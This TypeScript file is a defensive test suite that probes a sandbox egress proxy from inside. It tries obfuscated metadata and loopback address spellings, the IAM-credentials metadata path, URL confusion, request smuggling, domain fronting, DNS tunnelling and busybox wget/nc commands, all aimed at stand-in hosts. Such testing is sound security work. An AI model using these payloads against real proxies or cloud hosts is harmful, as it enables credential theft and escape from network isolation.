/**
 * Network attacks: from inside a sandbox, try to reach what the egress proxy must keep out — cloud
 * metadata, private ranges, the host's loopback (the daemon's own API) — in every spelling of an
 * address or name, around the proxy (direct TCP, UDP/DNS, raw sockets, ICMP) and through it
 * (smuggling, pipelining, fronting, a port the allowlist does not name). Targets are only the
 * runner's stand-ins (stand-ins.ts) or the daemon on the runner's loopback.
 */
import { allFailed, allRefused, describe, probe, proxyRefused, type Attempt } from './net-probes.js';
import type { Attack, AttackContext, AttackOutcome } from './types.js';

const ISOLATED = ['python3', 'isolatedNetwork'] as const;

const connects = (targets: readonly string[]): Attempt[] => targets.map((t) => ({ kind: 'connect', target: t }));
const gets = (hosts: readonly string[], path = '/'): Attempt[] => hosts.map((h) => ({ kind: 'get', url: `http://${h}${path}`, label: `GET http://${h}${path}` }));

/** Attempts through the proxy of `which` sandbox that must all be refused. */
function refusedFrom(which: 'egressOpen' | 'egressAllow', attempts: (ctx: AttackContext) => Attempt[], what: string) {
  return async (ctx: AttackContext): Promise<AttackOutcome> => {
    const { results, marker } = await probe(ctx, ctx.sandboxes[which], attempts(ctx));
    return allRefused(ctx, results, marker, what);
  };
}

const METADATA_SPELLINGS_V4 = ['2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '169.254.43518', '0xa9.0xfe.0xa9.0xfe', '169.16689662', '0251.254.169.254', '169.254.169.254.'];
const METADATA_SPELLINGS_V6 = [
  '[::ffff:a9fe:a9fe]', '[::ffff:169.254.169.254]', '[0:0:0:0:0:ffff:a9fe:a9fe]', '[::FFFF:A9FE:A9FE]', '[0000:0000:0000:0000:0000:ffff:a9fe:a9fe]',
  '[64:ff9b::a9fe:a9fe]', '[64:ff9b::169.254.169.254]', '[2002:a9fe:a9fe::]', '[2002:a9fe:a9fe::1]', '[::a9fe:a9fe]', '[::169.254.169.254]',
  '[2001:0:0:0:0:0:5601:5601]', '[::ffff:0:a9fe:a9fe]',
];
const LOOPBACK_V4 = ['127.0.0.1', '127.1', '127.0.1', '2130706433', '0x7f000001', '017700000001', '0x7f.0.0.1', '0177.0.0.1', '127.000.000.001', '0.0.0.0', '0', 'localhost', 'LOCALHOST', 'localhost.', 'loopback.attack.test'];
const LOOPBACK_V6 = ['[::1]', '[0:0:0:0:0:0:0:1]', '[::ffff:7f00:1]', '[0:0:0:0:0:ffff:7f00:1]', '[::ffff:127.0.0.1]', '[::]', '[::127.0.0.1]', '[64:ff9b::7f00:1]', '[2002:7f00:1::]', '[::ffff:0:7f00:1]'];

export const networkAttacks: Attack[] = [
  {
    id: 'network.allowed-control',
    category: 'network',
    title: 'control: the allowlisted stand-in IS reachable (otherwise no refusal below proves anything)',
    needs: ISOLATED,
    async run(ctx) {
      const { results, marker } = await probe(ctx, ctx.sandboxes.egressAllow, [{ kind: 'get', url: 'http://allowed.attack.test/control', label: 'GET allowed.attack.test' }]);
      const got = ctx.standIns.received?.(marker) ?? [];
      const r = results[0];
      const ok = got.includes('allowed') && /^HTTP\/1\.[01] 200/.test(r?.status ?? '');
      return ok
        ? { blocked: true, detail: `the allowed stand-in answered (${r?.status ?? ''}); the proxy and the stand-ins work, so refusals elsewhere are the boundary's` }
        : { blocked: false, detail: `the suite cannot tell a refusal from a broken setup: the allowed stand-in was not reached (${r ? describe(r) : 'no result'})` };
    },
  },
  {
    id: 'network.metadata-ip',
    category: 'network',
    title: 'cloud metadata by its address (169.254.169.254) from an egress-open sandbox',
    needs: ISOLATED,
    run: refusedFrom('egressOpen', () => [...connects(['169.254.169.254:80', '169.254.169.254:443']), ...gets(['169.254.169.254'], '/latest/meta-data/iam/security-credentials/')], 'metadata by address'),
  },
  {
    id: 'network.metadata-names',
    category: 'network',
    title: 'cloud metadata by name, every case and trailing-dot spelling',
    needs: ISOLATED,
    run: refusedFrom(
      'egressOpen',
      () => {
        const names = ['metadata.google.internal', 'METADATA.GOOGLE.INTERNAL.', 'metadata.google.internal.', 'Metadata.Google.Internal', 'metadata.attack.test', 'instance-data.attack.test', 'metadata', 'metadata.google.internal..'];
        return [...connects(names.map((n) => `${n}:80`)), ...gets(names, '/computeMetadata/v1/')];
      },
      'metadata by name',
    ),
  },
  {
    id: 'network.metadata-odd-names',
    category: 'network',
    title: 'cloud metadata by names a host cannot have (unicode dots, percent-encoding, NUL, spaces)',
    needs: ISOLATED,
    run: refusedFrom(
      'egressOpen',
      () => {
        const names = ['metadata\u3002google\u3002internal', 'metadata\uff0egoogle\uff0einternal', 'metadata%2egoogle%2einternal', 'metadata.google.internal%00.attack.test', 'metadata.google.internal\u0000', 'metadata.google.internal%20'];
        return [...connects(names.map((n) => `${n}:80`)), ...gets(names)];
      },
      'metadata by odd names',
    ),
  },
  {
    id: 'network.metadata-v4-spellings',
    category: 'network',
    title: 'cloud metadata by integer, hex, octal and short IPv4 spellings',
    needs: ISOLATED,
    run: refusedFrom('egressOpen', () => [...connects(METADATA_SPELLINGS_V4.map((h) => `${h}:80`)), ...gets(METADATA_SPELLINGS_V4)], 'metadata, IPv4 spellings'),
  },
  {
    id: 'network.metadata-v6-spellings',
    category: 'network',
    title: 'cloud metadata by IPv4-mapped, -compatible, NAT64, 6to4 and Teredo IPv6',
    needs: ISOLATED,
    run: refusedFrom('egressOpen', () => [...connects(METADATA_SPELLINGS_V6.map((h) => `${h}:80`)), ...gets(METADATA_SPELLINGS_V6)], 'metadata, IPv6 spellings'),
  },
  {
    id: 'network.daemon-loopback-v4',
    category: 'network',
    title: "the daemon's own API on host loopback through every IPv4 spelling",
    run: refusedFrom('egressOpen', (ctx) => [...connects(LOOPBACK_V4.map((h) => `${h}:${ctx.api.port}`)), ...gets(LOOPBACK_V4.map((h) => `${h}:${ctx.api.port}`), '/v1/sandboxes')], "daemon's port, IPv4 spellings"),
  },
  {
    id: 'network.daemon-loopback-v6',
    category: 'network',
    title: "the daemon's own API on host loopback through IPv6 and IPv4-mapped spellings",
    run: refusedFrom('egressOpen', (ctx) => [...connects(LOOPBACK_V6.map((h) => `${h}:${ctx.api.port}`)), ...gets(LOOPBACK_V6.map((h) => `${h}:${ctx.api.port}`), '/v1/sandboxes')], "daemon's port, IPv6 spellings"),
  },
  {
    id: 'network.loopback-stand-ins',
    category: 'network',
    title: 'other host-loopback listeners (127.0.0.2, ::1) by address and by name',
    run: refusedFrom(
      'egressOpen',
      (ctx) => {
        const l = ctx.standIns.listeners.loopback;
        const l6 = ctx.standIns.listeners.ipv6Loopback;
        const v6 = l6.address.includes(':') ? `[${l6.address}]` : l6.address;
        return [...connects([`${l.address}:${l.port}`, `loopback2.attack.test:${l.port}`, `${v6}:${l6.port}`, `v6loopback.attack.test:${l6.port}`, `127.2:${l.port}`]), ...gets([`${l.address}:${l.port}`, `${v6}:${l6.port}`])];
      },
      'loopback stand-ins',
    ),
  },
  {
    id: 'network.private-ranges',
    category: 'network',
    title: 'private, CGNAT, ULA and link-local ranges by address, short form and name',
    needs: ISOLATED,
    run: refusedFrom(
      'egressOpen',
      () => {
        const hosts = ['10.0.0.1:80', '10.1:80', '167772161:80', '0xa000001:80', '[::ffff:a00:1]:80', '[::ffff:10.0.0.1]:80', '[64:ff9b::a00:1]:80', 'private.attack.test:80', 'internal.attack.test:80', '10.0.0.1:22', '172.16.0.1:80', '192.168.0.1:80', '100.64.0.1:80', '[fd00::1]:80', '[fe80::1]:80', '[fe80::a9fe:a9fe]:80', '198.18.0.1:80', '[fd00:ec2::254]:80'];
        return [...connects(hosts), ...gets(['10.0.0.1', 'private.attack.test', '[::ffff:a00:1]', '10.1'])];
      },
      'private ranges',
    ),
  },
  {
    id: 'network.globaldeny-spellings',
    category: 'network',
    title: 'a globally denied name (whose address is open) in every spelling, from an egress-open sandbox',
    needs: ISOLATED,
    run: refusedFrom(
      'egressOpen',
      () => {
        const names = ['c2.attack.test', 'C2.ATTACK.TEST', 'c2.attack.test.', 'C2.Attack.Test.', 'c2\u3002attack\u3002test', 'c2%2eattack%2etest', 'c2.attack.test%00'];
        return [...connects(names.map((n) => `${n}:80`)), ...gets(names)];
      },
      'globalDeny spellings',
    ),
  },
  {
    id: 'network.allowlist-other-host',
    category: 'network',
    title: 'from an allowlist sandbox: a host not on the list, by name and by its (open) address',
    needs: ISOLATED,
    run: refusedFrom(
      'egressAllow',
      () => [...connects(['denied.attack.test:80', '10.99.0.2:80', '10.99.0.1:80', 'exfil.attack.test:80', '[::ffff:a63:2]:80']), ...gets(['denied.attack.test', '10.99.0.2', '10.99.0.1'])],
      'hosts off the allowlist',
    ),
  },
  {
    id: 'network.allowlist-other-port',
    category: 'network',
    title: 'CONNECT to a port of the allowed host that the allowlist does not name',
    needs: ISOLATED,
    run: refusedFrom('egressAllow', () => [...connects(['allowed.attack.test:22', 'allowed.attack.test:443', 'allowed.attack.test:8080', 'allowed.attack.test:65616']), ...gets(['allowed.attack.test:22', 'allowed.attack.test:8080'])], 'ports off the allowlist'),
  },
  {
    id: 'network.url-confusion',
    category: 'network',
    title: 'URLs whose apparent host is allowed but whose real host is not (userinfo, fragment, backslash)',
    needs: ISOLATED,
    async run(ctx) {
      const urls = ['http://allowed.attack.test@denied.attack.test/', 'http://allowed.attack.test:80@denied.attack.test/', 'http://denied.attack.test#@allowed.attack.test/', 'http://denied.attack.test\\@allowed.attack.test/', 'http://denied.attack.test?@allowed.attack.test/', 'http://allowed.attack.test%40denied.attack.test/'];
      const attempts: Attempt[] = urls.map((u) => ({ kind: 'get', url: u, label: u }));
      const { results, marker } = await probe(ctx, ctx.sandboxes.egressAllow, attempts);
      const where = ctx.standIns.received?.(marker) ?? [];
      const bad = where.filter((w) => w !== 'allowed');
      // Reaching the allowed stand-in is fine (that host is allowed); reaching any other is the leak.
      const leaked = results.filter((r) => !proxyRefused(r) && !/stand-in allowed reached/.test(r.body ?? ''));
      return bad.length === 0 && leaked.length === 0
        ? { blocked: true, detail: `nothing but the allowed stand-in reached (${results.map(describe).slice(0, 3).join('; ')})` }
        : { blocked: false, detail: `reached ${bad.join(', ') || 'something'}: ${leaked.map(describe).join('; ')}` };
    },
  },
  {
    id: 'network.host-header-mismatch',
    category: 'network',
    title: 'plain-HTTP GET with the allowed host in the URL and a denied one in the Host header',
    needs: ISOLATED,
    async run(ctx) {
      const { results, marker } = await probe(ctx, ctx.sandboxes.egressAllow, [
        { kind: 'get', url: 'http://allowed.attack.test/', host: 'denied.attack.test', label: 'Host: denied.attack.test' },
        { kind: 'get', url: 'http://allowed.attack.test/', host: 'metadata.google.internal', label: 'Host: metadata.google.internal' },
        { kind: 'get', url: '/', host: 'denied.attack.test', label: 'origin-form, Host: denied.attack.test' },
      ]);
      const where = ctx.standIns.received?.(marker) ?? [];
      const bad = where.filter((w) => w !== 'allowed');
      return bad.length === 0
        ? { blocked: true, detail: `only the allowed stand-in (by the URL's host) was reached: ${results.map(describe).join('; ')}` }
        : { blocked: false, detail: `the Host header steered the request to ${bad.join(', ')}` };
    },
  },
  {
    id: 'network.smuggle-cl-te',
    category: 'network',
    title: 'request smuggling through the proxy (Content-Length + Transfer-Encoding, duplicate lengths)',
    needs: ISOLATED,
    async run(ctx) {
      const inner = 'GET http://denied.attack.test/ HTTP/1.1\r\nHost: denied.attack.test\r\nX-Marker: MARKER\r\n\r\n';
      const clte = `POST http://allowed.attack.test/ HTTP/1.1\r\nHost: allowed.attack.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${inner}`;
      const tecl = `POST http://allowed.attack.test/ HTTP/1.1\r\nHost: allowed.attack.test\r\nTransfer-Encoding: chunked\r\nContent-Length: ${inner.length + 5}\r\n\r\n0\r\n\r\n${inner}`;
      const dupcl = `POST http://allowed.attack.test/ HTTP/1.1\r\nHost: allowed.attack.test\r\nContent-Length: 0\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`;
      const obfte = `POST http://allowed.attack.test/ HTTP/1.1\r\nHost: allowed.attack.test\r\nTransfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n${inner}`;
      const { results, marker } = await probe(ctx, ctx.sandboxes.egressAllow, [clte, tecl, dupcl, obfte].map((data, i) => ({ kind: 'raw', data, label: ['CL+TE', 'TE+CL', 'two Content-Length', 'odd Transfer-Encoding'][i] as string })));
      const bad = (ctx.standIns.received?.(marker) ?? []).filter((w) => w !== 'allowed');
      const answers = results.map((r) => `${r.label}: ${(r.raw ?? r.error ?? '').split('\r\n')[0]?.slice(0, 40)}`);
      return bad.length === 0
        ? { blocked: true, detail: `no smuggled request reached a denied stand-in (${answers.join('; ')})` }
        : { blocked: false, detail: `a smuggled request reached ${bad.join(', ')} (${answers.join('; ')})` };
    },
  },
  {
    id: 'network.pipelined-denied',
    category: 'network',
    title: 'a second, denied request pipelined on one keep-alive connection after an allowed one',
    needs: ISOLATED,
    async run(ctx) {
      const first = 'GET http://allowed.attack.test/first HTTP/1.1\r\nHost: allowed.attack.test\r\n\r\n';
      const second = (h: string): string => `GET http://${h}/second HTTP/1.1\r\nHost: ${h}\r\nX-Marker: MARKER\r\nConnection: close\r\n\r\n`;
      const connectHead = 'CONNECT denied.attack.test:80 HTTP/1.1\r\nHost: denied.attack.test:80\r\n\r\nGET / HTTP/1.1\r\nHost: denied.attack.test\r\nX-Marker: MARKER\r\n\r\n';
      const { results, marker } = await probe(ctx, ctx.sandboxes.egressAllow, [
        { kind: 'raw', data: first + second('denied.attack.test'), label: 'pipelined denied host' },
        { kind: 'raw', data: first + second('169.254.169.254'), label: 'pipelined metadata' },
        { kind: 'raw', data: connectHead, label: 'bytes after a denied CONNECT' },
        { kind: 'raw', data: first + connectHead, label: 'CONNECT pipelined after a GET' },
      ]);
      const bad = (ctx.standIns.received?.(marker) ?? []).filter((w) => w !== 'allowed');
      return bad.length === 0
        ? { blocked: true, detail: `every pipelined request was decided on its own; nothing reached a denied stand-in (${results.map((r) => `${r.label}: ${(r.raw ?? r.error ?? '').split('\r\n')[0]?.slice(0, 30)}`).join('; ')})` }
        : { blocked: false, detail: `a pipelined request reached ${bad.join(', ')}` };
    },
  },
  {
    id: 'network.domain-fronting',
    category: 'network',
    title: 'domain fronting: CONNECT to the allowed host, then a TLS ClientHello (SNI) and Host for a denied one',
    needs: ISOLATED,
    async run(ctx) {
      const sni = clientHello('denied.attack.test');
      const { results, marker } = await probe(ctx, ctx.sandboxes.egressAllow, [
        { kind: 'connect', target: 'allowed.attack.test:80', tunnelBytes: `${sni}GET / HTTP/1.1\r\nHost: denied.attack.test\r\nX-Marker: MARKER\r\n\r\n`, label: 'SNI denied.attack.test' },
        { kind: 'raw', data: 'CONNECT allowed.attack.test:80 HTTP/1.1\r\nHost: denied.attack.test:80\r\n\r\nGET / HTTP/1.1\r\nHost: denied.attack.test\r\nX-Marker: MARKER\r\n\r\n', label: 'CONNECT with Host denied' },
      ]);
      const where = ctx.standIns.received?.(marker) ?? [];
      const bad = where.filter((w) => w !== 'allowed');
      return bad.length === 0
        ? { blocked: true, detail: `the tunnel went only to the CONNECT target's checked address (${where.join(', ') || 'nothing'} reached; ${results.map(describe).join('; ')})` }
        : { blocked: false, detail: `fronting reached ${bad.join(', ')}` };
    },
  },
  {
    id: 'network.direct-tcp',
    category: 'network',
    title: 'direct TCP around the proxy to metadata, private, allowed and host-loopback addresses',
    needs: ISOLATED,
    async run(ctx) {
      const at: Attempt[] = [
        { kind: 'tcp', host: '169.254.169.254', port: 80 },
        { kind: 'tcp', host: '10.0.0.1', port: 80 },
        { kind: 'tcp', host: '10.0.0.1', port: 22 },
        { kind: 'tcp', host: '10.99.0.1', port: 80 },
        { kind: 'tcp', host: '10.99.0.2', port: 80 },
        { kind: 'tcp', host: '::ffff:169.254.169.254', port: 80, family: 6 },
        { kind: 'tcp', host: '127.0.0.1', port: ctx.api.port, label: `127.0.0.1:${ctx.api.port} (the daemon's port, if the host's loopback were shared)` },
        { kind: 'tcp', host: ctx.standIns.listeners.loopback.address, port: ctx.standIns.listeners.loopback.port },
      ];
      const out: string[] = [];
      for (const id of [ctx.sandboxes.debian, ctx.sandboxes.egressOpen]) {
        const { results, marker } = await probe(ctx, id, at);
        const v = allFailed(ctx, results, marker, id === ctx.sandboxes.debian ? 'egress none' : 'egress open');
        if (!v.blocked) return v;
        out.push(v.detail);
      }
      return { blocked: true, detail: out.join(' | ') };
    },
  },
  {
    id: 'network.dns-tunnel',
    category: 'network',
    title: 'DNS tunnelling: the resolver, and UDP/53 to stand-in resolvers, from egress-none and egress-open sandboxes',
    needs: ISOLATED,
    async run(ctx) {
      const at: Attempt[] = [
        { kind: 'resolve', name: 'leak.exfil.attack.test' },
        { kind: 'resolve', name: 'metadata.google.internal' },
        { kind: 'udp', host: '10.0.0.1', port: 53 },
        { kind: 'udp', host: '169.254.169.254', port: 53 },
        { kind: 'udp', host: '10.99.0.1', port: 53 },
        { kind: 'udp', host: '::ffff:10.0.0.1', port: 53, family: 6 },
      ];
      const out: string[] = [];
      for (const id of [ctx.sandboxes.debian, ctx.sandboxes.egressOpen, ctx.sandboxes.egressAllow]) {
        const { results, marker } = await probe(ctx, id, at);
        const v = allFailed(ctx, results, marker, id === ctx.sandboxes.debian ? 'egress none' : id === ctx.sandboxes.egressOpen ? 'egress open' : 'allowlist');
        if (!v.blocked) return v;
        out.push(v.detail);
      }
      return { blocked: true, detail: out.join(' | ') };
    },
  },
  {
    id: 'network.raw-sockets',
    category: 'network',
    title: 'raw and packet sockets (AF_PACKET, SOCK_RAW v4/v6)',
    async run(ctx) {
      const { results, marker } = await probe(ctx, ctx.sandboxes.egressOpen, [
        { kind: 'rawsock', domain: 'packet' },
        { kind: 'rawsock', domain: 'inet-raw-tcp' },
        { kind: 'rawsock', domain: 'inet-raw-icmp' },
        { kind: 'rawsock', domain: 'inet6-raw' },
      ]);
      return allFailed(ctx, results, marker, 'raw sockets');
    },
  },
  {
    id: 'network.icmp',
    category: 'network',
    title: 'ICMP echo to metadata and private stand-ins (ping sockets and busybox ping)',
    needs: ISOLATED,
    async run(ctx) {
      const { results, marker } = await probe(ctx, ctx.sandboxes.egressOpen, [
        { kind: 'rawsock', domain: 'icmp-dgram', target: '169.254.169.254', label: 'ICMP datagram to 169.254.169.254' },
        { kind: 'rawsock', domain: 'icmp-dgram', target: '10.0.0.1', label: 'ICMP datagram to 10.0.0.1' },
      ]);
      const v = allFailed(ctx, results, marker, 'ICMP');
      if (!v.blocked) return v;
      const ping = await ctx.exec(ctx.sandboxes.busybox, ['sh', '-c', 'ping -c 1 -W 2 169.254.169.254 2>&1; echo rc=$?; ping -c 1 -W 2 10.0.0.1 2>&1; echo rc=$?']);
      const replies = /bytes from/.test(ping.stdout);
      return replies ? { blocked: false, detail: `busybox ping got a reply: ${ping.stdout.slice(0, 200)}` } : { blocked: true, detail: `${v.detail}; busybox ping: ${ping.stdout.replace(/\n/g, ' ').slice(0, 120)}` };
    },
  },
  {
    id: 'network.ipv6-link-local',
    category: 'network',
    title: 'IPv6 link-local and all-nodes multicast, directly and through the proxy',
    async run(ctx) {
      const { results, marker } = await probe(ctx, ctx.sandboxes.egressOpen, [
        { kind: 'tcp', host: 'fe80::1', port: 80, family: 6 },
        { kind: 'udp', host: 'ff02::1', port: 53, family: 6 },
        { kind: 'tcp', host: 'fd00:ec2::254', port: 80, family: 6 },
      ]);
      const direct = allFailed(ctx, results, marker, 'direct');
      if (!direct.blocked) return direct;
      const via = await probe(ctx, ctx.sandboxes.egressOpen, connects(['[fe80::1]:80', '[fe80::1%25lo]:80', '[ff02::1]:80', '[fd00:ec2::254]:80']));
      const v = allRefused(ctx, via.results, via.marker, 'through the proxy');
      return v.blocked ? { blocked: true, detail: `${direct.detail} | ${v.detail}` } : v;
    },
  },
  {
    id: 'network.busybox-tools',
    category: 'network',
    title: 'busybox wget and nc from an egress-none sandbox to the metadata and private stand-ins',
    needs: ['isolatedNetwork'],
    async run(ctx) {
      const r = await ctx.exec(ctx.sandboxes.busybox, [
        'sh', '-c',
        'for u in http://169.254.169.254/ http://10.0.0.1/ http://10.99.0.1/; do wget -q -T 3 -O - "$u" 2>&1 && echo "GOT $u"; done; ' +
          'echo x | nc -w 2 10.0.0.1 22 2>&1 && echo GOT-nc; echo done',
      ]);
      const got = /GOT|stand-in/.test(r.stdout);
      return got ? { blocked: false, detail: `reached: ${r.stdout.slice(0, 200)}` } : { blocked: true, detail: `wget and nc failed: ${r.stdout.replace(/\n/g, ' ').slice(0, 160)}` };
    },
  },
  {
    id: 'network.egress-none-no-proxy',
    category: 'network',
    title: 'an egress-none sandbox has no proxy to talk to and no proxy settings',
    async run(ctx) {
      const { results, marker } = await probe(ctx, ctx.sandboxes.debian, connects(['allowed.attack.test:80', '169.254.169.254:80']));
      const noAnswer = results.every((r) => r.error !== undefined && r.status === undefined);
      const env = await ctx.exec(ctx.sandboxes.debian, ['sh', '-c', 'env | grep -i _proxy; ls /run/agentbox 2>&1']);
      if (!noAnswer || ctx.standIns.received?.(marker)?.length) return { blocked: false, detail: `something answered on 127.0.0.1:3128: ${results.map(describe).join('; ')}` };
      return /proxy\.sock/.test(env.stdout)
        ? { blocked: false, detail: `the proxy socket is present in an egress-none sandbox: ${env.stdout.slice(0, 120)}` }
        : { blocked: true, detail: `nothing listens on 127.0.0.1:3128 (${results.map(describe).join('; ')})` };
    },
  },
];

/** A minimal TLS 1.2 ClientHello carrying `host` as SNI (latin1 string, the probe sends it as bytes). */
function clientHello(host: string): string {
  const name = Buffer.from(host, 'latin1');
  const sniEntry = Buffer.concat([Buffer.from([0]), u16(name.length), name]);
  const sniList = Buffer.concat([u16(sniEntry.length), sniEntry]);
  const ext = Buffer.concat([u16(0), u16(sniList.length), sniList]);
  const body = Buffer.concat([
    Buffer.from([3, 3]),
    Buffer.alloc(32, 7),
    Buffer.from([0]),
    u16(2),
    Buffer.from([0x13, 0x01]),
    Buffer.from([1, 0]),
    u16(ext.length),
    ext,
  ]);
  const hs = Buffer.concat([Buffer.from([1]), Buffer.from([0, (body.length >> 8) & 0xff, body.length & 0xff]), body]);
  const rec = Buffer.concat([Buffer.from([0x16, 3, 1]), u16(hs.length), hs]);
  return rec.toString('latin1');
}

function u16(n: number): Buffer {
  const b = Buffer.alloc(2);
  b.writeUInt16BE(n);
  return b;
}
